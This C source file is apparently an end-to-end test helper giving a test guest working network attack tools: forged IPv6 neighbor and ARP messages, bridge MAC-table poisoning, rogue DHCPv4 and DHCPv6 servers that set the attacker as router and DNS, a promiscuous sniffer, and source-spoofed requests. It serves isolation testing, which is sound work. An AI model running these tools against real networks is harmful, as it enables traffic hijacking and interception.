// The attacker's (and the victim's) toolbox inside a test guest: raw Ethernet frames on AF_PACKET
// with whatever addresses and options an attacker chooses, a rogue DHCP server that answers real
// discoveries from a non-standard port, TCP from a chosen source address, and small listeners.
// Built static by test/e2e/attack.test.ts. Every command prints one result line.
//
//   attack ns IFACE DSTMAC SRC6 DST6 TARGET6 OPT   OPT: - | sll=MAC | nonce (NS; SRC6 may be ::)
//   attack dad IFACE TARGET6 SECONDS               DAD probes from :: for TARGET6 (with nonce) every 200 ms
//   attack na IFACE DSTMAC SRC6 DST6 TARGET6 TLLMAC
//   attack arp IFACE DSTMAC OP SENDERMAC SENDERIP TARGETIP   OP: 1 request, 2 reply (Ethernet source: own MAC)
//   attack poison IFACE SRCMAC SECONDS             frames with a forged Ethernet source (bridge FDB poisoning)
//   attack dhcp4-rogue IFACE MYIP OFFERIP SECONDS  answers DISCOVER/REQUEST from UDP port 6767
//   attack dhcp6-rogue IFACE DSTMAC SRC6 DST6 SECONDS   DHCPv6 REPLY (DNS = SRC6) from port 5470, every 300 ms
//   attack sniff IFACE PATTERN                     counts frames holding PATTERN until SIGTERM
//   attack http SRC DST PORT PATH                  GET PATH from SRC; prints the response
//   attack udp-send SRC DST PORT MSG
//   attack udp-wait PORT SECONDS [MSG]             waits for a datagram (holding MSG, if given)
//   attack udp-count PORT SECONDS                  counts datagrams on [::]:PORT
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

// Every loop also ends on SIGTERM/SIGINT and still prints its count (the scripts kill them).
static volatile sig_atomic_t stop;
static void on_signal(int s) { (void)s; stop = 1; }

static void die(const char *what) { printf("error %s: %s\n", what, strerror(errno)); exit(2); }

static void parse_mac(const char *s, uint8_t *mac) {
  unsigned m[6];
  if (sscanf(s, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6) { printf("error bad mac %s\n", s); exit(2); }
  for (int i = 0; i < 6; i++) mac[i] = (uint8_t)m[i];
}
static void parse6(const char *s, uint8_t *a) { if (inet_pton(AF_INET6, s, a) != 1) { printf("error bad address %s\n", s); exit(2); } }
static void parse4(const char *s, uint8_t *a) { if (inet_pton(AF_INET, s, a) != 1) { printf("error bad address %s\n", s); exit(2); } }
static double now(void) { struct timeval tv; gettimeofday(&tv, 0); return tv.tv_sec + tv.tv_usec / 1e6; }

// ---- raw frames ----
static int raw_fd = -1;
static int raw_ifindex;
static uint8_t own_mac[6];

static void raw_open(const char *iface) {
  raw_fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  if (raw_fd < 0) die("socket");
  struct ifreq ifr = {0};
  strncpy(ifr.ifr_name, iface, IFNAMSIZ - 1);
  if (ioctl(raw_fd, SIOCGIFINDEX, &ifr) < 0) die("ifindex");
  raw_ifindex = ifr.ifr_ifindex;
  if (ioctl(raw_fd, SIOCGIFHWADDR, &ifr) < 0) die("hwaddr");
  memcpy(own_mac, ifr.ifr_hwaddr.sa_data, 6);
  struct sockaddr_ll sll = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = raw_ifindex};
  if (bind(raw_fd, (struct sockaddr *)&sll, sizeof sll) < 0) die("bind");
}

static void raw_send(const uint8_t *frame, size_t len) {
  struct sockaddr_ll sll = {.sll_family = AF_PACKET, .sll_ifindex = raw_ifindex, .sll_halen = 6};
  memcpy(sll.sll_addr, frame, 6);
  if (sendto(raw_fd, frame, len, 0, (struct sockaddr *)&sll, sizeof sll) < 0) die("sendto");
}

static size_t eth(uint8_t *f, const uint8_t *dst, const uint8_t *src, uint16_t type) {
  memcpy(f, dst, 6);
  memcpy(f + 6, src, 6);
  f[12] = type >> 8;
  f[13] = type & 0xff;
  return 14;
}

static uint16_t csum_finish(uint32_t sum) {
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return (uint16_t)~sum;
}
static uint32_t csum_add(uint32_t sum, const uint8_t *p, size_t len) {
  for (size_t i = 0; i + 1 < len; i += 2) sum += (p[i] << 8) | p[i + 1];
  if (len & 1) sum += p[len - 1] << 8;
  return sum;
}

// An IPv6 packet with payload `l4` (ICMPv6 or UDP, whose checksum is filled in here).
static size_t ip6(uint8_t *f, const uint8_t *dstmac, const uint8_t *srcmac, const uint8_t *src, const uint8_t *dst, uint8_t nh, uint8_t hops, uint8_t *l4, size_t l4len) {
  size_t o = eth(f, dstmac, srcmac, 0x86dd);
  uint8_t *h = f + o;
  memset(h, 0, 40);
  h[0] = 0x60;
  h[4] = l4len >> 8;
  h[5] = l4len & 0xff;
  h[6] = nh;
  h[7] = hops;
  memcpy(h + 8, src, 16);
  memcpy(h + 24, dst, 16);
  size_t ck = nh == 58 ? 2 : 6;
  l4[ck] = l4[ck + 1] = 0;
  uint32_t sum = csum_add(0, src, 16);
  sum = csum_add(sum, dst, 16);
  sum += l4len + nh;
  sum = csum_add(sum, l4, l4len);
  uint16_t c = csum_finish(sum);
  if (nh == 17 && c == 0) c = 0xffff;
  l4[ck] = c >> 8;
  l4[ck + 1] = c & 0xff;
  memcpy(h + 40, l4, l4len);
  return o + 40 + l4len;
}

static void solicited_node(const uint8_t *target, uint8_t *group, uint8_t *mac) {
  uint8_t g[16] = {0xff, 0x02, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x01, 0xff, target[13], target[14], target[15]};
  memcpy(group, g, 16);
  uint8_t m[6] = {0x33, 0x33, 0xff, target[13], target[14], target[15]};
  memcpy(mac, m, 6);
}

static size_t nd_option(uint8_t *p, uint8_t type, const uint8_t *six) {
  p[0] = type;
  p[1] = 1;
  memcpy(p + 2, six, 6);
  return 8;
}

static void send_ns(const uint8_t *dstmac, const uint8_t *src, const uint8_t *dst, const uint8_t *target, const char *opt) {
  uint8_t l4[64] = {135, 0};
  memcpy(l4 + 8, target, 16);
  size_t len = 24;
  if (!strncmp(opt, "sll=", 4)) {
    uint8_t mac[6];
    parse_mac(opt + 4, mac);
    len += nd_option(l4 + len, 1, mac);
  } else if (!strcmp(opt, "nonce")) {
    uint8_t nonce[6];
    for (int i = 0; i < 6; i++) nonce[i] = (uint8_t)rand();
    len += nd_option(l4 + len, 14, nonce);
  }
  uint8_t f[256];
  raw_send(f, ip6(f, dstmac, own_mac, src, dst, 58, 255, l4, len));
}

// ---- DHCPv4 ----
static size_t udp4(uint8_t *f, const uint8_t *dstmac, const uint8_t *src, const uint8_t *dst, uint16_t sport, uint16_t dport, const uint8_t *data, size_t dlen) {
  size_t o = eth(f, dstmac, own_mac, 0x0800);
  uint8_t *h = f + o;
  size_t tot = 20 + 8 + dlen;
  memset(h, 0, 28);
  h[0] = 0x45;
  h[2] = tot >> 8;
  h[3] = tot & 0xff;
  h[8] = 64;
  h[9] = 17;
  memcpy(h + 12, src, 4);
  memcpy(h + 16, dst, 4);
  uint16_t c = csum_finish(csum_add(0, h, 20));
  h[10] = c >> 8;
  h[11] = c & 0xff;
  uint8_t *u = h + 20;
  u[0] = sport >> 8; u[1] = sport & 0xff; u[2] = dport >> 8; u[3] = dport & 0xff;
  u[4] = (8 + dlen) >> 8; u[5] = (8 + dlen) & 0xff;
  memcpy(u + 8, data, dlen); // UDP checksum 0: optional over IPv4
  return o + tot;
}

static int dhcp4_rogue(const char *iface, const char *myip_s, const char *offer_s, double seconds) {
  uint8_t myip[4], offer[4], bcast[4] = {255, 255, 255, 255}, bmac[6] = {255, 255, 255, 255, 255, 255};
  parse4(myip_s, myip);
  parse4(offer_s, offer);
  raw_open(iface);
  struct timeval tv = {0, 200000};
  setsockopt(raw_fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  int answered = 0, seen = 0;
  double end = now() + seconds;
  while (now() < end && !stop) {
    uint8_t f[2048];
    ssize_t n = recv(raw_fd, f, sizeof f, 0);
    if (n < 14 + 20 + 8 + 240 || f[12] != 0x08 || f[13] != 0x00 || f[14 + 9] != 17) continue;
    size_t ihl = (f[14] & 15) * 4;
    uint8_t *u = f + 14 + ihl, *b = u + 8;
    if (((u[2] << 8) | u[3]) != 67 || b[0] != 1) continue; // BOOTREQUEST to the server port
    int type = 0;
    for (uint8_t *p = b + 240; p < f + n && *p != 255;) {
      if (*p == 0) { p++; continue; }
      if (p[0] == 53) type = p[2];
      p += 2 + p[1];
    }
    if (type != 1 && type != 3) continue;
    seen++;
    uint8_t r[300] = {0};
    r[0] = 2; r[1] = 1; r[2] = 6;
    memcpy(r + 4, b + 4, 4);    // xid
    memcpy(r + 16, offer, 4);   // yiaddr
    memcpy(r + 20, myip, 4);    // siaddr
    memcpy(r + 28, b + 28, 16); // chaddr
    r[236] = 99; r[237] = 130; r[238] = 83; r[239] = 99;
    uint8_t *p = r + 240;
    *p++ = 53; *p++ = 1; *p++ = type == 1 ? 2 : 5;                 // OFFER / ACK
    *p++ = 54; *p++ = 4; memcpy(p, myip, 4); p += 4;               // server id
    *p++ = 51; *p++ = 4; *p++ = 0; *p++ = 0; *p++ = 0x0e; *p++ = 0x10; // lease 3600 s
    *p++ = 1; *p++ = 4; *p++ = 255; *p++ = 255; *p++ = 255; *p++ = 0;
    *p++ = 3; *p++ = 4; memcpy(p, myip, 4); p += 4;                // router: the attacker
    *p++ = 6; *p++ = 4; memcpy(p, myip, 4); p += 4;                // DNS: the attacker
    *p++ = 255;
    uint8_t out[600];
    raw_send(out, udp4(out, bmac, myip, bcast, 6767, 68, r, 300));
    answered++;
  }
  printf("dhcp4-rogue requests %d answered %d\n", seen, answered);
  return 0;
}

// ---- DHCPv6: a REPLY naming the attacker as DNS server, to the client port ----
static int dhcp6_rogue(const char *iface, const char *dstmac_s, const char *src_s, const char *dst_s, double seconds) {
  uint8_t dstmac[6], src[16], dst[16];
  parse_mac(dstmac_s, dstmac);
  parse6(src_s, src);
  parse6(dst_s, dst);
  raw_open(iface);
  int sent = 0;
  double end = now() + seconds;
  while (now() < end && !stop) {
    uint8_t l4[128] = {0};
    l4[0] = 5470 >> 8; l4[1] = 5470 & 0xff; l4[2] = 546 >> 8; l4[3] = 546 & 0xff;
    uint8_t *m = l4 + 8, *p = m;
    *p++ = 7; *p++ = 0x12; *p++ = 0x34; *p++ = 0x56;              // REPLY, transaction id
    *p++ = 0; *p++ = 2; *p++ = 0; *p++ = 10;                        // server id (DUID-LL)
    *p++ = 0; *p++ = 3; *p++ = 0; *p++ = 1; memcpy(p, own_mac, 6); p += 6;
    *p++ = 0; *p++ = 23; *p++ = 0; *p++ = 16; memcpy(p, src, 16); p += 16; // DNS servers: the attacker
    size_t len = (size_t)(p - l4);
    l4[4] = len >> 8; l4[5] = len & 0xff;
    uint8_t f[256];
    raw_send(f, ip6(f, dstmac, own_mac, src, dst, 17, 64, l4, len));
    sent++;
    usleep(300000);
  }
  printf("dhcp6-rogue sent %d\n", sent);
  return 0;
}

// ---- sniffing ----
static int sniff(const char *iface, const char *pattern) {
  raw_open(iface);
  struct packet_mreq mr = {.mr_ifindex = raw_ifindex, .mr_type = PACKET_MR_PROMISC};
  setsockopt(raw_fd, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &mr, sizeof mr);
  struct timeval tv = {0, 200000};
  setsockopt(raw_fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  long frames = 0, hits = 0;
  size_t plen = strlen(pattern);
  while (!stop) {
    uint8_t f[65536];
    ssize_t n = recv(raw_fd, f, sizeof f, 0);
    if (n <= 0) continue;
    frames++;
    if (memmem(f, (size_t)n, pattern, plen)) hits++;
  }
  printf("sniff frames %ld hits %ld\n", frames, hits);
  return 0;
}

// ---- sockets ----
static int sockaddr_of(const char *addr, int port, struct sockaddr_storage *ss, socklen_t *len) {
  memset(ss, 0, sizeof *ss);
  struct sockaddr_in6 *s6 = (struct sockaddr_in6 *)ss;
  struct sockaddr_in *s4 = (struct sockaddr_in *)ss;
  if (inet_pton(AF_INET6, addr, &s6->sin6_addr) == 1) {
    s6->sin6_family = AF_INET6;
    s6->sin6_port = htons(port);
    *len = sizeof *s6;
    return AF_INET6;
  }
  if (inet_pton(AF_INET, addr, &s4->sin_addr) == 1) {
    s4->sin_family = AF_INET;
    s4->sin_port = htons(port);
    *len = sizeof *s4;
    return AF_INET;
  }
  printf("error bad address %s\n", addr);
  exit(2);
}

static int http(const char *src, const char *dst, int port, const char *path) {
  struct sockaddr_storage s, d;
  socklen_t sl, dl;
  int fam = sockaddr_of(src, 0, &s, &sl);
  sockaddr_of(dst, port, &d, &dl);
  int fd = socket(fam, SOCK_STREAM, 0);
  int one = 1;
  setsockopt(fd, SOL_IP, IP_FREEBIND, &one, sizeof one);
  setsockopt(fd, SOL_IPV6, 78 /* IPV6_FREEBIND */, &one, sizeof one);
  if (bind(fd, (struct sockaddr *)&s, sl) < 0) { printf("bind failed: %s\n", strerror(errno)); return 1; }
  struct timeval tv = {6, 0};
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  if (connect(fd, (struct sockaddr *)&d, dl) < 0) { printf("connect failed: %s\n", strerror(errno)); return 1; }
  char req[512];
  int n = snprintf(req, sizeof req, "GET %s HTTP/1.0\r\nHost: metadata\r\n\r\n", path);
  if (write(fd, req, n) != n) { printf("write failed\n"); return 1; }
  char buf[4096];
  ssize_t r;
  while ((r = read(fd, buf, sizeof buf)) > 0) fwrite(buf, 1, r, stdout);
  printf("\n");
  return 0;
}

static int udp_socket(const char *addr, int port, struct sockaddr_storage *ss, socklen_t *len) {
  int fam = sockaddr_of(addr, port, ss, len);
  return socket(fam, SOCK_DGRAM, 0);
}

static int udp_send(const char *src, const char *dst, int port, const char *msg) {
  struct sockaddr_storage s, d;
  socklen_t sl, dl;
  int fd = udp_socket(src, 0, &s, &sl);
  sockaddr_of(dst, port, &d, &dl);
  if (bind(fd, (struct sockaddr *)&s, sl) < 0) { printf("bind failed: %s\n", strerror(errno)); return 1; }
  if (sendto(fd, msg, strlen(msg), 0, (struct sockaddr *)&d, dl) < 0) { printf("send failed: %s\n", strerror(errno)); return 1; }
  printf("sent\n");
  return 0;
}

static int udp_listen(int port, double seconds, const char *want, int count_all) {
  struct sockaddr_storage s;
  socklen_t sl;
  int fd = udp_socket("::", port, &s, &sl);
  int zero = 0;
  setsockopt(fd, IPPROTO_IPV6, IPV6_V6ONLY, &zero, sizeof zero);
  if (bind(fd, (struct sockaddr *)&s, sl) < 0) { printf("bind failed: %s\n", strerror(errno)); return 1; }
  struct timeval tv = {0, 200000};
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  int got = 0;
  double end = now() + seconds;
  while (now() < end && !stop) {
    char buf[2048];
    ssize_t n = recv(fd, buf, sizeof buf - 1, 0);
    if (n < 0) continue;
    buf[n] = 0;
    if (count_all) { got++; continue; }
    if (!want || strstr(buf, want)) { printf("received %s\n", buf); return 0; }
  }
  if (count_all) printf("received %d\n", got);
  else printf("timeout\n");
  return count_all ? 0 : 1;
}

int main(int argc, char **argv) {
  setvbuf(stdout, 0, _IOLBF, 0);
  struct sigaction sa = {.sa_handler = on_signal};
  sigaction(SIGTERM, &sa, 0);
  sigaction(SIGINT, &sa, 0);
  srand((unsigned)(now() * 1000));
  const char *cmd = argc > 1 ? argv[1] : "";
  if (!strcmp(cmd, "ns") && argc == 8) {
    uint8_t dstmac[6], src[16], dst[16], target[16];
    raw_open(argv[2]);
    parse_mac(argv[3], dstmac);
    parse6(argv[4], src);
    parse6(argv[5], dst);
    parse6(argv[6], target);
    send_ns(dstmac, src, dst, target, argv[7]);
    printf("ns sent\n");
    return 0;
  }
  if (!strcmp(cmd, "dad") && argc == 5) {
    uint8_t target[16], group[16], gmac[6], any[16] = {0};
    raw_open(argv[2]);
    parse6(argv[3], target);
    solicited_node(target, group, gmac);
    int sent = 0;
    for (double end = now() + atof(argv[4]); now() < end && !stop; sent++) {
      send_ns(gmac, any, group, target, "nonce");
      usleep(200000);
    }
    printf("dad sent %d\n", sent);
    return 0;
  }
  if (!strcmp(cmd, "na") && argc == 8) {
    uint8_t dstmac[6], src[16], dst[16], target[16], tll[6];
    raw_open(argv[2]);
    parse_mac(argv[3], dstmac);
    parse6(argv[4], src);
    parse6(argv[5], dst);
    parse6(argv[6], target);
    parse_mac(argv[7], tll);
    uint8_t l4[32] = {136, 0, 0, 0, 0x20};  // override
    memcpy(l4 + 8, target, 16);
    nd_option(l4 + 24, 2, tll);
    uint8_t f[128];
    raw_send(f, ip6(f, dstmac, own_mac, src, dst, 58, 255, l4, 32));
    printf("na sent\n");
    return 0;
  }
  if (!strcmp(cmd, "arp") && argc == 8) {
    uint8_t dstmac[6], smac[6], sip[4], tip[4];
    raw_open(argv[2]);
    parse_mac(argv[3], dstmac);
    parse_mac(argv[5], smac);
    parse4(argv[6], sip);
    parse4(argv[7], tip);
    uint8_t f[64] = {0};
    size_t o = eth(f, dstmac, own_mac, 0x0806);
    uint8_t *a = f + o;
    a[1] = 1; a[2] = 8; a[4] = 6; a[5] = 4; a[7] = (uint8_t)atoi(argv[4]);
    memcpy(a + 8, smac, 6);
    memcpy(a + 14, sip, 4);
    if (a[7] == 2) memcpy(a + 18, dstmac, 6);
    memcpy(a + 24, tip, 4);
    raw_send(f, 60);
    printf("arp sent\n");
    return 0;
  }
  if (!strcmp(cmd, "poison") && argc == 5) {
    uint8_t src[6], bmac[6] = {255, 255, 255, 255, 255, 255};
    raw_open(argv[2]);
    parse_mac(argv[3], src);
    int sent = 0;
    for (double end = now() + atof(argv[4]); now() < end && !stop; sent++) {
      uint8_t f[60] = {0};
      eth(f, bmac, src, 0x88b5); // local experimental ethertype: only the source MAC matters
      raw_send(f, 60);
      usleep(50000);
    }
    printf("poison sent %d\n", sent);
    return 0;
  }
  if (!strcmp(cmd, "dhcp4-rogue") && argc == 6) return dhcp4_rogue(argv[2], argv[3], argv[4], atof(argv[5]));
  if (!strcmp(cmd, "dhcp6-rogue") && argc == 7) return dhcp6_rogue(argv[2], argv[3], argv[4], argv[5], atof(argv[6]));
  if (!strcmp(cmd, "sniff") && argc == 4) return sniff(argv[2], argv[3]);
  if (!strcmp(cmd, "http") && argc == 6) return http(argv[2], argv[3], atoi(argv[4]), argv[5]);
  if (!strcmp(cmd, "udp-send") && argc == 6) return udp_send(argv[2], argv[3], atoi(argv[4]), argv[5]);
  if (!strcmp(cmd, "udp-wait") && (argc == 4 || argc == 5)) return udp_listen(atoi(argv[2]), atof(argv[3]), argc == 5 ? argv[4] : 0, 0);
  if (!strcmp(cmd, "udp-count") && argc == 4) return udp_listen(atoi(argv[2]), atof(argv[3]), 0, 1);
  printf("usage: see the comment at the top of attack.c\n");
  return 2;
}
